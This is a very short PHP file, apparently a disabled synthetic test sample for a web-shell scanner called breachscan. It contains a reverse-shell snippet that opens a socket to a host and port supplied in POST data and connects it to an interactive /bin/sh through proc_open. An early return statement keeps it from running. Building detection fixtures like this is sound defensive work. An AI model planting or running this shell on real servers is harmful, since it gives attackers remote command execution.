<?php
// synthetic test sample for breachscan: back-connect shell - socket to a host/port from the
// request wired to /bin/sh through proc_open. Disabled.
return;
$s = fsockopen($_POST['host'], (int)$_POST['port']);
$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
